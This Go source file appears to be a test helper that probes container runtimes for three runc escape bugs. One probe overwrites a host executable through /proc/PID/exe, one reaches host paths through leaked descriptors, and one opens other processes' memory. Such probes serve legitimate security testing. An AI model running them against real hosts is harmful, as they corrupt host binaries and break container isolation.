package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// others lists the processes of /proc that are not this one.
func others() []string {
	found, _, _ := entries("/proc")
	self := strconv.Itoa(unix.Getpid())
	var pids []string
	for _, n := range found {
		if _, err := strconv.Atoi(n); err == nil && n != self {
			pids = append(pids, n)
		}
	}
	return pids
}

// over is true when the time is, or when somebody has put a file in the way.
func over(end time.Time) bool {
	var st unix.Stat_t
	return time.Now().After(end) || unix.Stat("/tmp/stop", &st) == nil
}

// overwriteExe SECONDS waits for a foreign program to appear in /proc, takes hold of its executable
// and writes to that file as soon as it no longer runs (CVE-2019-5736).
func overwriteExe(a []string) (string, error) {
	d, err := seconds(a[0])
	if err != nil {
		return "", err
	}
	own, _ := os.Readlink("/proc/self/exe")
	held := map[string]int{}
	var said []string
	fmt.Println("ready")
	for end := time.Now().Add(d); !over(end); {
		for _, pid := range others() {
			target, err := os.Readlink("/proc/" + pid + "/exe")
			if err != nil || target == own || held[target] != 0 {
				continue
			}
			fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err == nil {
				held[target] = fd
				said = append(said, "held "+target)
			}
		}
		for target, fd := range held {
			w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			if n, err := unix.Pwrite(w, []byte("overwritten"), 0); err == nil && n > 0 {
				said = append(said, "wrote "+target)
			}
			unix.Close(w)
		}
	}
	return strings.Join(said, "\n"), nil
}

// scanFDs PATH tries to reach PATH of the host through every open descriptor and every
// process's working directory and root (CVE-2024-21626), and prints which way worked.
func scanFDs(a []string) (string, error) {
	up := strings.Repeat("../", 24) + strings.TrimPrefix(a[0], "/")
	var ways []string
	for fd := range descriptors() {
		if f, err := unix.Openat(fd, up, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			ways = append(ways, fmt.Sprintf("descriptor %d", fd))
			unix.Close(f)
		}
	}
	for _, pid := range append(others(), "self") {
		for _, link := range []string{"cwd", "root"} {
			path := "/proc/" + pid + "/" + link + "/"
			if f, err := unix.Open(path+up, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
				ways = append(ways, path)
				unix.Close(f)
			}
		}
	}
	if f, err := unix.Open(up, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
		ways = append(ways, "the working directory")
		unix.Close(f)
	}
	return strings.Join(ways, ", "), nil
}

// attachAll SECONDS tries to open the memory and the descriptors of every process that is about to
// become the container's but is not yet (CVE-2016-9962), and prints what it got.
func attachAll(a []string) (string, error) {
	d, err := seconds(a[0])
	if err != nil {
		return "", err
	}
	own, _ := os.Readlink("/proc/self/exe")
	seen := map[string]bool{}
	fmt.Println("ready")
	for end := time.Now().Add(d); !over(end); {
		for _, pid := range others() {
			for _, got := range attach(pid, own) {
				seen[got] = true
			}
		}
	}
	var list []string
	for s := range seen {
		list = append(list, s)
	}
	return strings.Join(list, "\n"), nil
}

func attach(pid, own string) (got []string) {
	dir := "/proc/" + pid
	// /proc/PID/mem holds the address space it was opened with, whatever is executed later.
	fd, err := unix.Open(dir+"/mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err == nil {
		defer unix.Close(fd)
		if exe, err := os.Readlink(dir + "/exe"); err == nil && exe != own {
			got = append(got, "memory of "+exe)
		}
	}
	root, rootErr := os.Readlink(dir + "/root")
	if exe, err := os.Readlink(dir + "/exe"); rootErr == nil && err == nil && exe != own {
		got = append(got, "root "+root+" of "+exe)
	}
	return got
}
